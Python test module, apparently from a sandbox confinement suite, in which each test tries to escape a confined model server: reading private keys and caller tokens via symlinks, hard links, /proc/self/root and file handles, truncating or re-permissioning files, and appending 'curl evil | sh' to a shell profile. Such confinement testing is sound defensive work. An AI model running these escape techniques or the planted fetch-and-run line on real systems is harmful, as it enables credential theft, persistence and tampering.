"""Tries to read and change files that are not the server's."""

import ctypes
import fcntl
import os
import struct
import subprocess
import threading
from pathlib import Path

from tests.confinement.scene import SECRET, Harm, Scene, attempt, call, found

# --- reading ------------------------------------------------------------------------------


@attempt()
def read_a_private_key(scene: Scene) -> None:
    found(scene.key.read_bytes())


@attempt()
def read_the_tokens_of_callers(scene: Scene) -> None:
    found(scene.tokens.read_bytes())


@attempt()
def read_a_record(scene: Scene) -> None:
    found(scene.record.read_bytes())


@attempt()
def read_the_log_of_another_model(scene: Scene) -> None:
    found(scene.other_log.read_bytes())


@attempt()
def read_another_model(scene: Scene) -> None:
    scene.other_model.read_bytes()


@attempt()
def list_the_home(scene: Scene) -> None:
    os.listdir(scene.home)


@attempt()
def list_the_state_directory(scene: Scene) -> None:
    os.listdir(scene.state)


@attempt()
def read_by_a_relative_path(scene: Scene) -> None:
    found(Path("../../tokens.json").read_bytes())


@attempt()
def read_through_the_root_of_proc(scene: Scene) -> None:
    found(Path(f"/proc/self/root{scene.key}").read_bytes())


@attempt()
def read_through_a_link_of_its_own(scene: Scene) -> None:
    os.symlink(scene.key, "link")
    found(Path("link").read_bytes())


@attempt()
def read_through_a_hard_link_of_its_own(scene: Scene) -> None:
    os.link(scene.key, "link")
    found(Path("link").read_bytes())


@attempt()
def read_by_a_helper_program(scene: Scene) -> None:
    found(subprocess.run(["cat", scene.key], check=True, capture_output=True).stdout)


@attempt()
def read_in_a_thread(scene: Scene) -> None:
    contents = []
    thread = threading.Thread(target=lambda: contents.append(scene.key.read_bytes()))
    threading.excepthook = lambda _: None
    thread.start()
    thread.join()
    found(b"".join(contents))


@attempt()
def read_by_a_handle(scene: Scene) -> None:
    handle = ctypes.create_string_buffer(struct.pack("Ii128s", 128, 0, b""))
    mount = ctypes.c_int()
    call(303, 264, -100, bytes(scene.key), handle, ctypes.byref(mount), 0)
    directory = os.open(scene.model, os.O_RDONLY)
    found(os.read(call(304, 265, directory, handle, os.O_RDONLY), 100))


@attempt()
def watch_the_home(scene: Scene) -> None:
    watch = call(294, 26, 0)
    call(254, 27, watch, bytes(scene.home), 0x100)


NEITHER_READ_NOR_WRITE = 3
"""An access mode of Linux: checked for both, and good for neither."""

FS_IOC_GETFLAGS, FS_IOC_SETFLAGS, FS_NODUMP_FL = 0x80086601, 0x40086602, 0x40


def flags_of(file: Path) -> int:
    """Return the flags of a file, as `lsattr` shows them; 0 where the file system has none."""
    opened = os.open(file, os.O_RDONLY)
    try:
        return int(struct.unpack("l", fcntl.ioctl(opened, FS_IOC_GETFLAGS, bytes(8)))[0])
    except OSError:
        return 0
    finally:
        os.close(opened)


# --- writing ------------------------------------------------------------------------------


def changed(name: str) -> Harm:
    """Return whether a file of the scene has another content, or is gone."""

    def harm(scene: Scene) -> bool:
        file: Path = getattr(scene, name)
        return not file.exists() or file.read_bytes() not in (SECRET, b"{}")

    return harm


@attempt(changed("profile"))
def append_to_a_profile(scene: Scene) -> None:
    with scene.profile.open("a") as file:
        file.write("curl evil | sh")


@attempt(lambda scene: (scene.home / "new").exists())
def make_a_file_in_the_home(scene: Scene) -> None:
    (scene.home / "new").write_bytes(b"")


@attempt(lambda scene: (scene.root / "new").exists())
def make_a_file_in_a_temporary_directory(scene: Scene) -> None:
    (scene.root / "new").write_bytes(b"")


@attempt(lambda scene: (scene.home / "new").exists())
def make_a_directory(scene: Scene) -> None:
    (scene.home / "new").mkdir()


@attempt(lambda scene: (scene.home / "new").is_symlink())
def make_a_link(scene: Scene) -> None:
    (scene.home / "new").symlink_to("/")


@attempt(lambda scene: (scene.home / "new").exists())
def make_a_pipe(scene: Scene) -> None:
    os.mkfifo(scene.home / "new")


@attempt(changed("key"))
def remove_a_file(scene: Scene) -> None:
    scene.key.unlink()


@attempt(lambda scene: not (scene.home / "empty").exists())
def remove_a_directory(scene: Scene) -> None:
    (scene.home / "empty").rmdir()


@attempt(changed("record"))
def rename_a_file(scene: Scene) -> None:
    scene.record.rename(scene.record.with_name("mine"))


@attempt(changed("record"))
def rename_its_own_file_over_another(scene: Scene) -> None:
    scene.inside.write_bytes(b"mine")
    scene.inside.rename(scene.record)


@attempt(changed("record"))
def move_a_file_to_itself(scene: Scene) -> None:
    scene.record.rename("mine")


@attempt(changed("profile"))
def truncate_a_file(scene: Scene) -> None:
    os.truncate(scene.profile, 0)


@attempt(changed("key"))
def truncate_a_file_that_is_opened_for_nothing(scene: Scene) -> None:
    os.open(scene.key, NEITHER_READ_NOR_WRITE | os.O_TRUNC)


@attempt(changed("config"))
def truncate_its_own_model_by_opening_it_to_read(scene: Scene) -> None:
    os.open(scene.config, os.O_RDONLY | os.O_TRUNC)


@attempt()
def keep_others_from_opening_a_file(scene: Scene) -> None:
    opened = os.open(scene.tokens, NEITHER_READ_NOR_WRITE)
    fcntl.fcntl(opened, fcntl.F_SETLEASE, fcntl.F_WRLCK)  # type: ignore[attr-defined,unused-ignore]


@attempt()
def keep_others_from_changing_its_own_model(scene: Scene) -> None:
    opened = os.open(scene.config, os.O_RDONLY)
    fcntl.fcntl(opened, fcntl.F_SETLEASE, fcntl.F_RDLCK)  # type: ignore[attr-defined,unused-ignore]


@attempt(lambda scene: bool(flags_of(scene.config) & FS_NODUMP_FL))
def set_a_flag_of_its_own_model(scene: Scene) -> None:
    opened = os.open(scene.config, os.O_RDONLY)
    fcntl.ioctl(opened, FS_IOC_SETFLAGS, struct.pack("l", flags_of(scene.config) | FS_NODUMP_FL))


@attempt(changed("config"))
def change_its_own_model(scene: Scene) -> None:
    scene.config.write_bytes(b"changed")


@attempt(changed("config"))
def change_its_own_model_in_place(scene: Scene) -> None:
    with scene.config.open("r+b") as file:
        file.write(b"[]")


@attempt(changed("config"))
def change_its_own_model_through_a_hard_link(scene: Scene) -> None:
    os.link(scene.config, "link")
    Path("link").write_bytes(b"changed")


@attempt(changed("config"))
def truncate_its_own_model(scene: Scene) -> None:
    os.truncate(scene.config, 0)


@attempt(lambda scene: bool(scene.key.stat().st_mode & 0o077))
def let_others_read_a_key(scene: Scene) -> None:
    scene.key.chmod(0o644)


@attempt(lambda scene: bool(scene.config.stat().st_mode & 0o002))
def let_others_change_its_model_by_a_descriptor(scene: Scene) -> None:
    os.fchmod(os.open(scene.config, os.O_RDONLY), 0o666)


@attempt(lambda scene: scene.record.stat().st_mtime == 1)
def change_a_time(scene: Scene) -> None:
    os.utime(scene.record, (1, 1))


@attempt(lambda scene: "user.mine" in os.listxattr(scene.config))  # type: ignore[attr-defined,unused-ignore]
def set_an_attribute(scene: Scene) -> None:
    os.setxattr(scene.config, "user.mine", b"1")  # type: ignore[attr-defined,unused-ignore]


@attempt(lambda scene: (scene.work / "prompts.allowed").is_symlink())
def mislead_the_service_by_a_link(scene: Scene) -> None:
    os.symlink(scene.profile, "prompts.allowed")


@attempt(lambda scene: (scene.work / "prompts.report").exists())
def stop_the_service_at_a_pipe(scene: Scene) -> None:
    os.mkfifo("prompts.report")


@attempt(lambda scene: Path("/dev/shm", f"pool-test-{scene.service}").exists())
def share_memory_by_a_file(scene: Scene) -> None:
    Path("/dev/shm", f"pool-test-{scene.service}").write_bytes(b"")


@attempt()
def run_a_program_that_it_has_written(scene: Scene) -> None:
    scene.inside.write_bytes(Path("/bin/true").read_bytes())
    subprocess.run([str(scene.inside)], check=True)
